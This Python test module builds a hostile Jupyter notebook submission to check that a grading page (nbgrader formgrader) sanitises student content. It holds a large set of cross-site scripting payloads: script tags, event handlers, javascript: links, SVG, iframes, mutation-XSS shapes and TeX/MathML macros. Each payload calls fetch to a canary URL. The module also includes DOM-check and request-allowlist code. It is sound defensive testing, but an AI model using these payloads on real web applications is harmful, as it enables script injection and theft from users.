"""A submission that carries script and outside requests in every place a notebook can hold markup.

:func:`hostile_notebook` adds to a release notebook: Markdown cells (raw HTML, script, event handlers,
``javascript:`` links, SVG, iframes, styles, forms, base/meta/link tags, mutation-XSS shapes, remote images,
TeX that links or loads), attachments (SVG with script, HTML, hostile names), a raw HTML cell, a code cell
whose source closes its ``<pre>``, outputs of every MIME type (HTML, isolated HTML, SVG, JavaScript,
Markdown, LaTeX, images with hostile data and metadata, widget and vdom views, an unknown type, streams and
errors with markup), hostile cell metadata (tags, ``alt``, nbgrader ``grade_id`` and points, cell id) and
notebook metadata (widget state, language and kernel names, title). The course's autograde clears outputs
and nbgrader refuses hostile grade ids: :func:`as_executed` puts them into the autograded notebook as stock
nbgrader's kernel execution of the student's code could have left them.

Every payload, if it ever runs, records its place in ``top.pwned``, opens a dialog and requests
``{canary}/<place>``; every remote resource is ``{canary}/<place>`` too. A formula that must still typeset
is in the cell holding :data:`FORMULA`.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import re

import nbformat

MISSING_ATTACHMENT = "![missing](attachment:nowhere.png)"
FORMULA = r"The scores are scaled: $\mathrm{softmax}\left(\frac{QK^\top}{\sqrt{d_k}}\right)V$ stays stable."


def js(place: str, canary: str) -> str:
    """Script (no double quotes) that, if run, shows it ran and makes a request."""
    return (f"top.pwned=(top.pwned||[]).concat([`{place}`]);alert(`{place}`);"
            f"fetch(`{canary}/{place}`).catch(function(){{}})")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def markdown_sources(canary: str) -> list[str]:
    """Markdown cells, each a few attacks (plus the formula that must typeset)."""
    j = lambda p: js(p, canary)  # noqa: E731
    return [
        f"{FORMULA}\n\n<script>{j('md-script')}</script>\n\n<img src=x onerror=\"{j('md-onerror')}\">",
        f"[click](javascript:{j('md-link')}) <a href=\"javascript:{j('md-a')}\">a</a> "
        f"<a href=\"jav&#x09;ascript:{j('md-a-entity')}\">b</a> <a href=\"data:text/html;base64,"
        f"{_b64('<script>' + j('md-a-data') + '</script>')}\">c</a>",
        f"<svg onload=\"{j('md-svg')}\"><script>{j('md-svg-script')}</script>"
        f"<a xlink:href=\"javascript:{j('md-svg-a')}\"><text>t</text></a></svg>",
        f"<iframe srcdoc=\"<script>{j('md-iframe')}</script>\"></iframe><iframe src=\"{canary}/md-iframe-src\">"
        f"</iframe><object data=\"{canary}/md-object\"></object><embed src=\"{canary}/md-embed\">",
        f"<style>@import url({canary}/md-style); body {{ background: url({canary}/md-style-bg) }}</style>"
        f"<div style=\"background-image: url({canary}/md-style-attr)\">styled</div>"
        f"<link rel=stylesheet href=\"{canary}/md-link-tag\"><meta http-equiv=refresh content=\"0;url={canary}/md-meta\">",
        f"<base href=\"{canary}/md-base/\"><form action=\"{canary}/md-form\"><input autofocus "
        f"onfocus=\"{j('md-autofocus')}\"><button formaction=\"javascript:{j('md-formaction')}\">go</button></form>"
        f"<details open ontoggle=\"{j('md-details')}\">d</details><video><source onerror=\"{j('md-video')}\"></video>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{j('md-mxss')}\"></style></mglyph></table>"
        f"</mtext></math><noscript><p title=\"</noscript><img src=x onerror={j('md-noscript')}>\"></noscript>",
        f"![remote]({canary}/md-img) <img src=\"{canary}/md-img-tag\"> <img srcset=\"{canary}/md-srcset 2x\">"
        f" ![relative](../../api/contents) ![attached](attachment:evil.svg) {MISSING_ATTACHMENT}",
        rf"TeX: $\href{{javascript:{j('tex-href')}}}{{x}}$ $\require{{{canary}/tex-require}}$ "
        rf"$\class{{x}}{{y}}$ $\style{{background:url({canary}/tex-style)}}{{z}}$ $\unicode{{x41}}$",
    ]


TEX_MARK = "rmtex"
"""Every value a typesetting attack puts into an attribute holds this mark (or the canary's address): an element of
the page with an attribute holding either is an attack that worked."""


def typesetting_attacks(canary: str) -> list[str]:
    """Markdown cells of TeX (and MathML) that try to make links, styles, classes, ids, HTML or requests through
    the typesetter: every macro that takes attributes or loads code, the same built at run time with
    ``\\def``/``\\newcommand``/``\\let``, hidden in font switches, and MathML written as HTML."""
    def p(place: str) -> str:  # no double quote, brace, bracket or dollar: any TeX argument or option holds it
        return (f"top.pwned=(top.pwned||Array()).concat(Array('{TEX_MARK}-{place}'));"
                f"fetch('{canary}/{TEX_MARK}-{place}')")

    def u(place: str) -> str:
        return f"url({canary}/{TEX_MARK}-{place})"
    return [
        rf"""$\href{{javascript:{p('href')}}}{{x}}$ $\href{{{canary}/{TEX_MARK}-href-http}}{{y}}$
$\mmlToken{{mi}}[href="javascript:{p('mml-href')}"]{{x}}$ $\mmlToken{{mi}}[style="background:{u('mml-style')}"]{{x}}$
$\mmlToken{{mi}}[onclick="{p('mml-onclick')}"]{{x}}$ $\mmlToken{{mi}}[class="{TEX_MARK}-class"]{{x}}$
$\mmlToken{{mi}}[id="{TEX_MARK}-id"]{{x}}$ $\mmlToken{{mo}}[fontfamily="{TEX_MARK}-font",background="{u('mml-bg')}"]{{+}}$""",
        rf"""$\class{{{TEX_MARK}-class}}{{x}}$ $\style{{background-image:{u('style')}}}{{x}}$ $\cssId{{{TEX_MARK}-id}}{{x}}$
$\unicode[{TEX_MARK}-font]{{x41}}$ $\unicode{{x41}}$ $\require{{{canary}/{TEX_MARK}-require}}$ $\require{{html}}$
$\data{{{TEX_MARK}=1}}{{x}}$ $\texttip{{x}}{{{TEX_MARK}-tip}}$ $\mathtip{{x}}{{{TEX_MARK}-tip}}$
$\toggle{{a}}{{b}}\endtoggle$ $\bbox[background:{u('bbox')}]{{x}}$ $\bbox[red,5pt,border:{u('bbox-border')}]{{x}}$
$\color{{{u('color')}}}{{x}}$ $\colorbox{{{u('colorbox')}}}{{x}}$""",
        rf"""$\def\link#1{{\href{{javascript:{p('def-href')}}}{{#1}}}}\link{{x}}$
$\newcommand{{\tok}}{{\mmlToken{{mi}}[href="javascript:{p('newcommand-mml')}"]}}\tok{{x}}$
$\let\tk\mmlToken \tk{{mi}}[href="javascript:{p('let-mml')}"]{{x}}$
$\def\mml{{mmlToken}}\csname mml\endcsname{{mi}}[href="javascript:{p('csname')}"]{{x}}$
${{\rm \mmlToken{{mi}}[href="javascript:{p('rm-mml')}"]{{x}}}}$ $\mathrm{{\href{{javascript:{p('mathrm-href')}}}{{x}}}}$
$\operatorname{{\mmlToken{{mi}}[style="background:{u('operatorname')}"]{{x}}}}$ $\text{{\href{{javascript:{p('text-href')}}}{{x}}}}$
$$a \label{{{TEX_MARK}-label}} \tag{{{TEX_MARK}}}$$ $\ref{{{TEX_MARK}-label}}$ $\eqref{{{TEX_MARK}-label}}$
$a \bmod b$ $a \pmod{{n}}$ $\varliminf_n x$""",
        f"""<math><mi href="javascript:{p('mathml-href')}" style="background:{u('mathml-style')}" class="{TEX_MARK}-class"
id="{TEX_MARK}-id" mathbackground="{u('mathml-bg')}" xlink:href="javascript:{p('mathml-xlink')}">x</mi>
<maction actiontype="statusline"><mi>y</mi><mtext>{TEX_MARK}-status</mtext></maction>
<semantics><mi>z</mi><annotation-xml encoding="text/html"><img src="{canary}/{TEX_MARK}-annotation"
onerror="{p('annotation')}"></annotation-xml></semantics><mstyle mathcolor="{u('mathml-color')}"><mi>w</mi></mstyle></math>""",
    ]


def attachments(canary: str) -> dict:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('attach-svg', canary)}\"><script>" \
          f"{js('attach-svg-script', canary)}</script></svg>"
    return {"evil.svg": {"image/svg+xml": _b64(svg), "text/html": _b64(f"<script>{js('attach-html', canary)}</script>")},
            f"x\" onerror=\"{js('attach-name', canary)}": {"image/png": "iVBORw0KGgo="},
            "bad.png": {"image/png": f"\"><img src=x onerror=\"{js('attach-data', canary)}\">"}}


def hostile_outputs(canary: str) -> list[dict]:
    """Outputs of every kind and MIME type, each carrying script or an outside request."""
    j = lambda p: js(p, canary)  # noqa: E731
    out = nbformat.v4.new_output
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{j('out-svg')}\"><script>{j('out-svg-script')}" \
          f"</script><image href=\"{canary}/out-svg-image\"/></svg>"
    return [
        out("display_data", data={"text/html": f"<script>{j('out-html')}</script><img src=x onerror=\"{j('out-html-img')}\">",
                                  "text/plain": "html"}),
        out("display_data", data={"text/html": f"<script>{j('out-isolated')}</script>"},
            metadata={"text/html": {"isolated": True}}),
        out("display_data", data={"image/svg+xml": svg}),
        out("display_data", data={"application/javascript": j("out-js")}),
        out("display_data", data={"text/markdown": f"<img src=x onerror=\"{j('out-md')}\"> [l](javascript:{j('out-md-a')})"}),
        out("display_data", data={"text/latex": rf"</div><script>{j('out-latex')}</script> $\href{{javascript:{j('out-latex-href')}}}{{x}}$"}),
        out("display_data", data={"image/png": f"\"><img src=x onerror=\"{j('out-png')}\">"},
            metadata={"image/png": {"width": f"1 onerror=\"{j('out-png-width')}\"", "alt": f"\"><script>{j('out-alt')}</script>"}}),
        out("display_data", data={"image/jpeg": "/9j/4AAQ"}, metadata={"filenames": {"image/jpeg": f"{canary}/out-filename"}}),
        out("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{j('out-widget')}</script>",
                                                                             "version_major": 2, "version_minor": 0}}),
        out("display_data", data={"application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "x", "onerror": j("out-vdom")}}}),
        out("display_data", data={"application/x-unknown+html": f"<script>{j('out-unknown')}</script>"}),
        out("execute_result", data={"text/plain": f"<script>{j('out-plain')}</script>"}, execution_count=1),
        out("stream", name="stdout", text=f"<script>{j('out-stream')}</script>\n"),
        out("error", ename=f"<img src=x onerror=\"{j('out-ename')}\">", evalue=f"<script>{j('out-evalue')}</script>",
            traceback=[f"\x1b[31m<script>{j('out-traceback')}</script>\x1b[0m"]),
    ]


CODE_MARK = "# rm-hostile-markup"


def hostile_notebook(release: nbformat.NotebookNode, canary: str) -> nbformat.NotebookNode:
    """``release`` with the hostile cells appended and hostile notebook metadata (no outputs yet)."""
    nb = copy.deepcopy(release)
    j = lambda p: js(p, canary)  # noqa: E731
    for i, source in enumerate(markdown_sources(canary)):
        cell = nbformat.v4.new_markdown_cell(source)
        cell.metadata.tags = [f"\" onmouseover=\"{j('meta-tag')}"]
        cell.metadata.alt = f"\"><script>{j('meta-alt')}</script>"
        if i == 7:
            cell.attachments = attachments(canary)
        nb.cells.append(cell)
    nb.cells.extend(nbformat.v4.new_markdown_cell(source) for source in typesetting_attacks(canary))
    raw = nbformat.v4.new_raw_cell(f"<script>{j('raw-html')}</script>")
    raw.metadata.raw_mimetype = "text/html"
    nb.cells.append(raw)
    nb.cells.append(nbformat.v4.new_code_cell(f"{CODE_MARK} </pre></div><script>{j('code-source')}</script>\n"
                                              "print('hello')"))
    return _notebook_metadata(nb, canary)


def _notebook_metadata(nb, canary: str):
    j = lambda p: js(p, canary)  # noqa: E731
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{j('nb-widgets')}</script>"}}
    nb.metadata.language_info = {"name": f"\"><script>{j('nb-language')}</script>",
                                 "pygments_lexer": f"<script>{j('nb-lexer')}</script>"}
    nb.metadata.title = f"</title><script>{j('nb-title')}</script>"
    return nb


def as_executed(nb: nbformat.NotebookNode, canary: str) -> nbformat.NotebookNode:
    """A graded ``nb`` as a kernel running the student's code could leave it (stock nbgrader's Execute):
    the hostile code cell with every output of :func:`hostile_outputs`, one more cell whose nbgrader
    metadata is hostile (nbgrader's own checks refuse it at autograde, a kernel's notebook can hold it),
    and the hostile notebook metadata again."""
    j = lambda p: js(p, canary)  # noqa: E731
    code = next(c for c in nb.cells if c.cell_type == "code" and c.source.startswith(CODE_MARK))
    code.outputs, code.execution_count = [nbformat.from_dict(o) for o in hostile_outputs(canary)], 1
    forged = nbformat.v4.new_code_cell("answer = 42")
    forged.metadata.nbgrader = {"grade_id": f"\"><script>{j('meta-grade-id')}</script>", "grade": True,
                                "solution": True, "points": f"1<script>{j('meta-points')}</script>",
                                "schema_version": 3}
    forged.metadata.tags = [f"\" onmouseover=\"{j('meta-code-tag')}"]
    nb.cells.append(forged)
    return _notebook_metadata(nb, canary)


# -- watching a page that shows such a submission -----------------------------------------------------

ALLOWED = re.compile(r"^/(formgrader/(static/|api/|submissions/[0-9a-f]+/?$)|static/favicons?/)")
"""What the manual-grading page may ask the lab for: the page, formgrader's files and its grading API."""

POKE = """() => {
  const root = document.querySelector('#notebook-container') || document.body;
  for (const el of root.querySelectorAll('*')) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'load', 'error', 'animationstart'])
      el.dispatchEvent(new Event(type));
  }
  for (const a of root.querySelectorAll('a[href]'))  // an SVG link (typeset math) has no click(): a click event
    a.click ? a.click() : a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  return root.querySelectorAll('*').length;
}"""

DOM_CHECK = """() => {
  const root = document.querySelector('#notebook-container');
  const bad = [];
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames())
      if (/^on/i.test(attr) || /^\\s*(javascript|vbscript|data:text)/i.test(el.getAttribute(attr)))
        bad.push(el.tagName + ' ' + attr);
    if (/^(SCRIPT|IFRAME|OBJECT|EMBED|STYLE|LINK|META|BASE|FORM|INPUT|BUTTON)$/.test(el.tagName)
        && !el.closest('.nbgrader_cell .panel-heading, .nbgrader_cell .panel-footer')) bad.push(el.tagName);
  }
  return bad;
}"""


class Watch:
    """What a page did: dialogs, requests (off-lab ones aborted), console messages."""

    def __init__(self, context, lab_url: str):
        """``lab_url``: the server's origin and base path (``http://host:port/user/name`` on a hub); requests
        are recorded by their path below it."""
        self.dialogs, self.requests, self.outside = [], [], []
        self.lab = lab_url

        def route(r):
            url = r.request.url
            if url.startswith(self.lab + "/") or url.startswith("about:"):
                self.requests.append(url[len(self.lab):])
                r.continue_()
            else:
                self.outside.append(url)
                r.abort()
        context.route("**/*", route)

    def page(self, context):
        page = context.new_page()
        page.on("dialog", self._dialog)
        return page

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        with contextlib.suppress(Exception):  # a page that navigated away has no dialog left to dismiss
            dialog.dismiss()

    def settle(self, page, mathjax: bool = True) -> int:
        page.wait_for_load_state("load")
        if mathjax:  # formgrader typesets with MathJax; the feedback's formulas are MathML already
            page.wait_for_function("() => window.MathJax && MathJax.startup && MathJax.startup.promise")
            page.evaluate("() => MathJax.startup.promise")
        poked = page.evaluate(POKE)
        page.wait_for_timeout(1500)  # a fetch, a timer or a refresh would have happened by now
        return poked



HOSTILE_NAME = {"first_name": "<img src=x onerror=\"top.pwned=[`first-name`]\">",
                "last_name": "</a><script>top.pwned=[`last-name`]</script>"}
"""A student's names in the gradebook (from an LMS roster): formgrader prints them into the page."""
